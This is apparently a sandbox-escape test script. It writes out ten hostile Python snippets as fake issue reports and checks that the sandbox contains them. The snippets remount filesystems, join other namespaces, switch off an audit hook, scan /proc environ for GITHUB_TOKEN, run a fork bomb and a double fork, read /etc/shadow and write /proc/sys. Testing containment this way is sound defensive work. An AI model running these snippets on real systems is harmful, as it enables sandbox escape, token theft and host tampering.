#!/usr/bin/env bash
# Hostile repro scripts against the sandbox of `reproduce --scripts`: one issue per attack (remount,
# setns into the parent's namespaces, raw libc socket to a listener on the host's loopback, the
# harness's audit hook switched off through stack frames, GITHUB_TOKEN from /proc/*/environ, a
# setsid double fork, a fork bomb, files left in /tmp, /dev/shm and /root, /etc/shadow, writes to
# /proc/sys). Every script first switches the audit hook off, so only the sandbox stands in the
# way, and reports what it achieved in its exception message (stored in repro_runs.details_json).
# Run once as root and once as uid 65534; each time the host must have seen nothing.
# Usage: bash repro_hostile_scripts.sh BUILD_DIR SOURCE_DIR SHARED_DIR
set -uo pipefail
source "$(dirname "$0")/lib.sh"
PY=/usr/bin/python3
$PY -c 'import torch, onnx' 2>/dev/null || skip "no torch/onnx for $PY"
[ "$(id -u)" = 0 ] || skip "needs root (runs convfail as root and as uid 65534)"
command -v setpriv >/dev/null || skip "setpriv missing"
command -v sqlite3 >/dev/null || skip "sqlite3 missing"

M=cfhostile$$x$RANDOM                      # marker in every file name the scripts try to leave
SLEEP=599.$((RANDOM % 900 + 100))          # the double-forked survivor's argument
TOKEN=ghp_$(head -c 64 /dev/urandom | tr -dc 'A-Za-z0-9' | head -c 36)
REVERSED=$(echo "$TOKEN" | rev)
HOSTNAME_BEFORE=$(cat /proc/sys/kernel/hostname)
SHADOW_LINE=$(head -n 1 /etc/shadow 2>/dev/null || true)

# A listener on the host's loopback, bounded (10 minutes at most), logging every connection.
$PY - "$T/port" "$T/connections" "$T/stop-listener" <<'PYEOF' &
import os, socket, sys, time
port_file, log, stop = sys.argv[1:4]
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(16)
s.settimeout(0.5)
open(port_file + ".tmp", "w").write(str(s.getsockname()[1]))
os.rename(port_file + ".tmp", port_file)
end = time.time() + 600
while time.time() < end and not os.path.exists(stop):
    try:
        c, addr = s.accept()
    except socket.timeout:
        continue
    with open(log, "a") as f:
        f.write("connection from %s\n" % (addr,))
    c.close()
PYEOF
LISTENER=$!
on_exit "touch '$T/stop-listener'; kill $LISTENER 2>/dev/null; wait $LISTENER 2>/dev/null"
for _ in $(seq 100); do [ -s "$T/port" ] && break; sleep 0.1; done
PORT=$(cat "$T/port") || fail "listener did not start"
on_exit "rm -f /tmp/$M* /dev/shm/$M* /root/$M* /$M* /etc/$M* /var/tmp/$M* 2>/dev/null"

# ---- the attacks: issue number, name, body of the script (after a common prelude) ----
$PY - "$T/issues.jsonl" "$M" "$PORT" "$SLEEP" <<'PYEOF'
import json, sys
out, M, PORT, SLEEP = sys.argv[1:5]
prelude = r'''
import ctypes, os, socket, struct, sys
import torch
libc = ctypes.CDLL(None, use_errno=True)
def unhook():
    # The harness keeps its state in its module globals: reach them through the stack.
    f = sys._getframe()
    while f is not None:
        st = f.f_globals.get("_state")
        if isinstance(st, dict) and "in_harness" in st:
            st["in_harness"] += 1000
            return True
        f = f.f_back
    return False
UNHOOKED = unhook()
R = {"unhooked": UNHOOKED}
def err():
    return os.strerror(ctypes.get_errno())
def connect_host():
    s = libc.socket(2, 1, 0)
    addr = struct.pack("=HH4s8x", 2, socket.htons(@PORT@), bytes([127, 0, 0, 1]))
    rc = libc.connect(s, addr, 16)
    e = err()
    libc.close(s)
    return "%d:%s" % (rc, e)
def try_write(path):
    try:
        with open(path, "w") as f:
            f.write("x")
        return "written"
    except OSError as e:
        return "errno%d" % e.errno
def done():
    raise RuntimeError("REPORT " + ";".join("%s=%s" % kv for kv in sorted(R.items())) + ";END")
'''
attacks = {
    "remount": r'''
R["remount"] = "%d:%s" % (libc.mount(None, b"/", None, 32 | 4096, None), err())
R["mount_tmpfs"] = "%d:%s" % (libc.mount(b"none", b"/usr", b"tmpfs", 0, None), err())
R["write_root"] = try_write("/@M@-remount")
R["write_etc"] = try_write("/etc/@M@-remount")
''',
    "setns": r'''
res = set()
pids = {os.getppid(), 1} | {int(p) for p in os.listdir("/proc") if p.isdigit()}
for pid in pids:
    for ns, flag in (("net", 0x40000000), ("mnt", 0x00020000)):
        try:
            fd = os.open("/proc/%d/ns/%s" % (pid, ns), os.O_RDONLY)
        except OSError as e:
            res.add("open-errno%d" % e.errno)
            continue
        rc = libc.setns(fd, flag)
        res.add("%d:%s" % (rc, err()))
        os.close(fd)
R["setns"] = ",".join(sorted(res))
R["connect_after"] = connect_host()
R["write_after"] = try_write("/tmp/@M@-setns-probe") + "/" + try_write("/root/@M@-setns")
''',
    "socket": r'''
R["connect"] = connect_host()
try:
    socket.create_connection(("127.0.0.1", @PORT@), timeout=3)
    R["py_connect"] = "connected"
except OSError as e:
    R["py_connect"] = type(e).__name__
''',
    "audit": r'''
R["write_root"] = try_write("/root/@M@-audit")
R["write_workparent"] = try_write(os.path.join(os.path.dirname(os.getcwd()), "..", "@M@-audit"))
R["connect"] = connect_host()
import subprocess
R["subprocess"] = subprocess.run(["sh", "-c", "echo x > /dev/shm/@M@-audit-sh && echo ran"],
                                 capture_output=True, text=True).stdout.strip()
''',
    "environ": r'''
found = []
for p in ["self", str(os.getppid()), "1"] + os.listdir("/proc"):
    for what in ("environ", "cmdline"):
        try:
            data = open("/proc/%s/%s" % (p, what), "rb").read()
        except OSError:
            continue
        for item in data.split(b"\0"):
            if b"ghp_" in item or item.startswith(b"GITHUB_TOKEN="):
                found.append(item.decode(errors="replace")[::-1])
R["token_found"] = len(found)
R["reversed"] = "|".join(found)
R["visible_pids"] = len([p for p in os.listdir("/proc") if p.isdigit()])
''',
    "doublefork": r'''
pid = libc.fork()
if pid == 0:
    libc.setsid()
    if libc.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "@SLEEP@"])
    os._exit(0)
os.waitpid(pid, 0)
R["double_forked"] = "yes"
''',
    "forkbomb": r'''
n = 0
for i in range(300):
    pid = libc.fork()
    if pid == 0:
        libc.pause()
        libc._exit(0)
    if pid < 0:
        R["fork_error"] = err()
        break
    n += 1
R["forked"] = n
''',
    "files": r'''
for p in ["/tmp/@M@-files", "/dev/shm/@M@-files", "/root/@M@-files", "/var/tmp/@M@-files",
          "/@M@-files"]:
    R[p.replace("@M@", "M")] = try_write(p)
''',
    "shadow": r'''
try:
    R["shadow"] = "READ " + open("/etc/shadow").readline().strip()
except OSError as e:
    R["shadow"] = "errno%d" % e.errno
R["shadow_exists"] = os.path.exists("/etc/shadow")
R["home_exists"] = os.path.exists("/home") or os.path.exists("/root")
''',
    "procsys": r'''
R["hostname"] = try_write("/proc/sys/kernel/hostname")
R["sethostname"] = "%d:%s" % (libc.sethostname(b"pwned", 5), err())
R["core_pattern"] = try_write("/proc/sys/kernel/core_pattern")
''',
}
with open(out, "w") as f:
    for number, (name, body) in enumerate(attacks.items(), 1):
        code = (prelude + body).replace("@M@", M).replace("@SLEEP@", SLEEP).replace("@PORT@", PORT)
        code += "done()\ntorch.onnx.export(torch.nn.Linear(1, 1), torch.zeros(1, 1), 'm.onnx')\n"
        f.write(json.dumps({"repo": "hostile/" + name, "number": number, "title": name,
                            "author": "mallory", "body": "```python\n" + code + "```\n",
                            "comments": []}) + "\n")
PYEOF

fail=0
# run_as MODE DIR: imports the attacks into DIR/db and runs them all (as root or as uid 65534).
run_as() {
  local mode=$1 dir=$2 start end
  mkdir -p "$dir/tmp"
  cp "$T/issues.jsonl" "$dir/issues.jsonl"
  local run=(env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$dir" TMPDIR="$dir/tmp"
             GITHUB_TOKEN="$TOKEN" "$BUILD/convfail" --db "$dir/db" --data-dir "$SRC/data")
  if [ "$mode" = nobody ]; then
    chown -R 65534:65534 "$dir"
    run=(setpriv --reuid=65534 --regid=65534 --clear-groups "${run[@]}")
  fi
  "${run[@]}" import "$dir/issues.jsonl" >"$dir/import.out" 2>&1 || { echo "FAIL import ($mode)"; cat "$dir/import.out"; return 1; }
  start=$(date +%s)
  "${run[@]}" reproduce --scripts --all --script-timeout 120 >"$dir/out" 2>"$dir/err"
  echo "exit $?" >>"$dir/err"
  end=$(date +%s)
  echo "ran 10 hostile scripts as $mode in $((end - start)) s"
  sqlite3 "$dir/db" .dump >"$dir/dump.sql"
  sqlite3 -json "$dir/db" "SELECT i.title AS name, r.verdict, r.reason, r.signature, r.duration_ms, r.details_json FROM repro_runs r JOIN issues i ON i.id = r.issue_id" >"$dir/runs.json"
}

check() {  # check MODE DIR
  local mode=$1 dir=$2
  $PY - "$mode" "$dir/runs.json" "$SLEEP" <<'PYEOF' || fail=1
import json, sys
mode, path, sleep_arg = sys.argv[1:4]
runs = {r["name"]: r for r in json.load(open(path))}
bad = 0
def report(name):
    r = runs.get(name)
    if r is None:
        return None, {}
    d = json.loads(r["details_json"] or "{}")
    msg = d.get("exception", {}).get("message", "")
    rep = {}
    if msg.startswith("REPORT ") and msg.endswith(";END"):
        for kv in msg[7:-4].split(";"):
            k, _, v = kv.partition("=")
            rep[k] = v
    return d, rep
def expect(name, cond, what):
    global bad
    d, rep = report(name)
    ok = d is not None and d.get("isolation") == "bwrap+seccomp" and rep.get("unhooked") == "True" \
        and not d.get("blocked") and d.get("network_isolated") and d.get("filesystem_isolated")
    ok = ok and cond(rep, runs[name])
    print("%s %s (%s): %s" % ("ok  " if ok else "FAIL", name, mode, what))
    if not ok:
        print("     details:", json.dumps(d)[:1500])
        bad = 1
EPERM = "-1:Operation not permitted"
expect("remount", lambda r, _: r["remount"] == EPERM and r["mount_tmpfs"] == EPERM
       and r["write_root"] == "errno30" and r["write_etc"] == "errno30",
       "mount(MS_REMOUNT|MS_BIND) and mount(tmpfs) refused, / and /etc not writable")
expect("setns", lambda r, _: set(r["setns"].split(",")) == {EPERM}
       and r["connect_after"] == "-1:Connection refused" and r["write_after"].endswith("/errno2"),
       "setns into every visible net/mnt namespace refused")
expect("socket", lambda r, _: r["connect"] == "-1:Connection refused"
       and r["py_connect"] == "ConnectionRefusedError",
       "libc connect() to the host's loopback port finds the sandbox's own loopback")
expect("audit", lambda r, _: r["write_root"] == "errno2" and r["connect"] == "-1:Connection refused"
       and r["subprocess"] == "ran",  # write_workparent lands in the sandbox's /tmp: see below
       "audit hook off: writes, sockets and processes still confined; isolation recorded")
expect("environ", lambda r, _: r["token_found"] == "0" and int(r["visible_pids"]) <= 3,
       "no GITHUB_TOKEN in any visible /proc/*/environ or cmdline; no host process visible")
expect("doublefork", lambda r, run: r["double_forked"] == "yes" and run["duration_ms"] < 60000,
       "setsid double fork: the run returned at once (survivor checked with ps below)")
expect("forkbomb", lambda r, _: 0 < int(r["forked"]) < 290
       and r.get("fork_error") == "Resource temporarily unavailable",
       "fork bomb stopped by RLIMIT_NPROC")
expect("files", lambda r, _: r["/tmp/M-files"] == "written" and r["/dev/shm/M-files"] == "written"
       and r["/root/M-files"] == "errno2" and r["/var/tmp/M-files"] == "errno2"
       and r["/M-files"] == "errno30",
       "files only in the sandbox's own /tmp and /dev/shm; /root, /var/tmp absent, / read-only")
expect("shadow", lambda r, _: r["shadow"] == "errno2" and r["shadow_exists"] == "False"
       and r["home_exists"] == "False", "/etc/shadow, /home and /root are not there")
expect("procsys", lambda r, _: r["hostname"].startswith("errno") and r["sethostname"] == EPERM
       and r["core_pattern"].startswith("errno"), "/proc/sys is read-only, sethostname refused")
sys.exit(bad)
PYEOF
  # What the host saw.
  [ ! -s "$T/connections" ] && echo "ok   no connection reached the host's listener ($mode)" ||
    { echo "FAIL connection at the host's listener ($mode): $(cat "$T/connections")"; fail=1; }
  local left
  left=$(ls -d /tmp/$M* /dev/shm/$M* /root/$M* /$M* /etc/$M* /var/tmp/$M* "$dir"/$M* "$dir"/tmp/$M* 2>/dev/null)
  [ -z "$left" ] && echo "ok   no file left on the host ($mode)" || { echo "FAIL files left ($mode): $left"; fail=1; }
  if ps -eo args | grep -v grep | grep -q "sleep $SLEEP"; then
    echo "FAIL survivor ($mode): $(ps -eo pid,args | grep "sleep $SLEEP" | grep -v grep)"; fail=1
  else
    echo "ok   no process left (ps: no 'sleep $SLEEP') ($mode)"
  fi
  if grep -qF -e "$TOKEN" -e "$REVERSED" "$dir/out" "$dir/err" "$dir/dump.sql"; then
    echo "FAIL the token reached output or the database ($mode)"; fail=1
  else
    echo "ok   the token is in no output and not in the database ($mode)"
  fi
  if [ -n "$SHADOW_LINE" ] && grep -qF -- "$SHADOW_LINE" "$dir/dump.sql"; then
    echo "FAIL /etc/shadow's first line is stored ($mode)"; fail=1
  else
    echo "ok   nothing of /etc/shadow stored ($mode)"
  fi
  [ "$(cat /proc/sys/kernel/hostname)" = "$HOSTNAME_BEFORE" ] &&
    echo "ok   host name unchanged ($mode)" || { echo "FAIL host name changed ($mode)"; fail=1; }
  [ -z "$(ls -d "$dir"/tmp/convfail-* 2>/dev/null)" ] && echo "ok   scratch directories removed ($mode)" ||
    { echo "FAIL scratch directories left ($mode)"; fail=1; }
}

run_and_check() { run_as "$1" "$2" && check "$1" "$2"; }
root_then_nobody run_and_check || fail=1
exit $fail
